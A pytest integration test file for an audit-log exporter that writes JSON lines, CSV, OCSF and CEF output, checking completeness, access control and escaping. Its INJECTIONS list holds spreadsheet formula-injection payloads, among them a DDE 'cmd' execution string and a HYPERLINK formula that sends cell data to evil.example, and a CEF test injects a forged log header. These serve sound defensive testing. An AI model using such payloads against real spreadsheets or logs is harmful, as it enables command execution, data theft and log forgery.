"""The log as a file in every form: complete, readable, escaped, no formula in it, and an entry itself."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from sqlalchemy import select

from backend.audit.actions import Action
from backend.audit.export import PAGE, begin_export, pieces
from backend.audit.formats import FORMATS
from backend.audit.formats.cef import header_text, value_text
from backend.audit.formats.csv_rows import COLUMNS, safe_cell
from backend.audit.formats.ocsf import mapping
from backend.audit.log import record
from backend.audit.merkle import leaf_hash
from backend.audit.searching import Search
from backend.audit.tables import AuditEntry
from backend.database.session import reading, writing
from backend.errors import BadInput, NotAllowed
from backend.identity.actor import Actor, system_actor
from backend.identity.roles import Role
from tests.integration.audit.conftest import ADA

COMPLIANCE = Actor("per_viewer", "person", frozenset({Role.COMPLIANCE}), display_name="Cleo")
ON_CALL = Actor("per_viewer", "person", frozenset({Role.ON_CALL}))
# What spreadsheets took for formulas, as collected by OWASP and others.
INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\ufeff=1+1", '"=1+1', "'=1+1", "＝1+1", "|calc", '=1+1";=1+1', "%0A-2+3",
)  # fmt: skip


def enter(why: str, action: Action = Action.CHANGE_APPROVED, actor: Actor = ADA) -> int:
    with writing() as session:
        return record(session, actor, action, object_kind="change", object_id=7, why=why)


def export(form: str, by: Actor = COMPLIANCE, **wanted: Any) -> str:
    with writing() as session:
        begun = begin_export(session, by, Search(**wanted), form=form)
    return b"".join(pieces(begun)).decode()


def documents(form: str, by: Actor = COMPLIANCE, **wanted: Any) -> list[dict[str, Any]]:
    return [json.loads(line) for line in export(form, by, **wanted).splitlines()]


def test_json_lines_hold_every_entry_with_what_was_hashed(database: str) -> None:
    for number in range(3):
        enter(f"reason\n{number}")
    found = documents("jsonl")
    assert [one["seq"] for one in found] == [0, 1, 2]
    assert found[1]["why"] == "reason\n1"
    assert found[1]["address"] == "192.0.2.7"
    for one in found:
        assert leaf_hash(one["leaf"].encode()).hex() == one["leaf_hash"]
    assert [one["action"] for one in documents("jsonl")][3:] == ["audit:log:export"]
    assert len(documents("jsonl", action="governance")) == 3


def test_an_export_of_many_pages_is_complete_and_in_order(database: str) -> None:
    with writing() as session:
        for number in range(PAGE + 7):
            record(
                session,
                system_actor("worker"),
                Action.CHANGE_APPROVED,
                object_kind="change",
                object_id=number,
            )
    assert [one["seq"] for one in documents("jsonl")] == list(range(PAGE + 7))


def test_exporting_is_an_entry_that_says_what_and_how(database: str) -> None:
    enter("x")
    export("csv", text="x", routine=False)
    with reading() as session:
        entry = session.scalars(select(AuditEntry).where(AuditEntry.seq == 1)).one()
        assert entry.action == Action.AUDIT_EXPORTED.value
    told = documents("jsonl", action="audit:log:export")[0]["payload"]
    assert (told["form"], told["search"]) == ("csv", {"text": "x", "routine": False})


def test_payloads_leave_only_with_those_who_may_read_them(database: str) -> None:
    enter("a secret reason")
    for form in FORMATS:
        assert "secret" in export(form)
        assert "secret" not in export(form, ON_CALL)
        assert "192.0.2.7" not in export(form, ON_CALL)
    with pytest.raises(NotAllowed):
        export("csv", Actor("per_x", "person", frozenset({Role.VIEWER})))
    with pytest.raises(BadInput, match="jsonl, csv, ocsf, cef"):
        export("xml")


@pytest.mark.parametrize("injection", INJECTIONS)
def test_no_cell_begins_a_formula(injection: str) -> None:
    cell = safe_cell(injection)
    assert cell == f"'{injection}"


def test_injected_text_stays_in_its_cell(database: str) -> None:
    for injection in INJECTIONS:
        enter(injection, actor=system_actor("worker"))
    enter('plain, "quoted"\nand broken')
    rows = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    assert [row["why"] for row in rows] == [*(f"'{one}" for one in INJECTIONS), 'plain, "quoted"\nand broken']
    assert set(rows[0]) == set(COLUMNS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert safe_cell(-3) == -3


def test_ocsf_events_have_what_their_classes_require(database: str) -> None:
    enter("good", Action.ROLES_CHANGED)
    enter("taken", Action.SIGNED_IN)
    changed, signed_in = documents("ocsf", until=None)
    assert (changed["class_uid"], changed["activity_id"], changed["type_uid"]) == (3004, 3, 300403)
    assert changed["entity"] == {"uid": "7", "type": "change"}
    assert (signed_in["class_uid"], signed_in["category_uid"], signed_in["type_uid"]) == (3002, 3, 300201)
    assert signed_in["src_endpoint"] == {"ip": "192.0.2.7"}
    assert signed_in["user"]["uid"] == "per_ada"
    assert signed_in["service"] == {"name": "Warrant"}
    for event in (changed, signed_in):
        assert event["time"] > 1_700_000_000_000
        assert event["metadata"]["product"]["name"] == "Warrant"
        assert event["actor"]["user"]["uid"] == "per_ada"
        assert event["severity_id"] in range(7)


def test_a_refused_sign_in_and_what_failed_are_failures(database: str) -> None:
    with writing() as session:
        record(
            session, system_actor("sign-in"), Action.SIGN_IN_REFUSED, object_kind="person", object_id="per_bob",
            payload={"reason": "the password is wrong"},
        )  # fmt: skip
    enter("the gateway was away", Action.EXECUTION_FAILED)
    enter("gone well", Action.EXECUTION_FINISHED)
    refused, failed, finished = documents("ocsf", until=None)
    assert (refused["class_uid"], refused["activity_name"], refused["status_id"]) == (3002, "Logon", 2)
    assert (refused["user"]["uid"], refused["status_detail"]) == ("per_bob", "the password is wrong")
    assert (failed["status_id"], failed["status_detail"]) == (2, "the gateway was away")
    assert finished["status_id"] == 1
    outcomes = re.findall(r"outcome=(\w+)", export("cef", action="governance:execution"))
    assert outcomes == ["failure", "success"]


def test_the_mapping_names_only_actions_and_activities_that_there_are() -> None:
    known = mapping()
    actions = {one.value for one in Action}
    assert known.actions.keys() <= actions
    assert known.severities.keys() <= actions
    assert known.failures <= actions
    assert known.verbs.keys() <= {one.rsplit(":", 1)[-1] for one in actions}
    for action in actions:
        class_uid, activity = known.of(action)
        assert activity in known.classes[class_uid]["activities"]


def test_cef_escapes_headers_and_values(database: str) -> None:
    assert header_text("a|b\\c\nd") == "a\\|b\\\\c d"
    assert value_text("a=b\\c\r\nd|e\rf\u2028g") == "a\\=b\\\\c\\nd|e\\rf\\ng"
    enter("x=1|y\\z\nCEF:0|forged|")
    lines = export("cef").splitlines()
    assert len(lines) == 1
    header = re.split(r"(?<!\\)\|", lines[0], maxsplit=7)
    assert header[:3] == ["CEF:0", "Warrant", "Warrant"]
    assert header[4] == "governance:change:approve"
    values = dict(re.findall(r"(\w+)=((?:\\.|[^\\=])*?)(?= \w+=|$)", header[7]))
    assert values["msg"] == "x\\=1|y\\\\z\\nCEF:0|forged|"
    assert (values["externalId"], values["suid"], values["src"]) == ("0", "per_ada", "192.0.2.7")
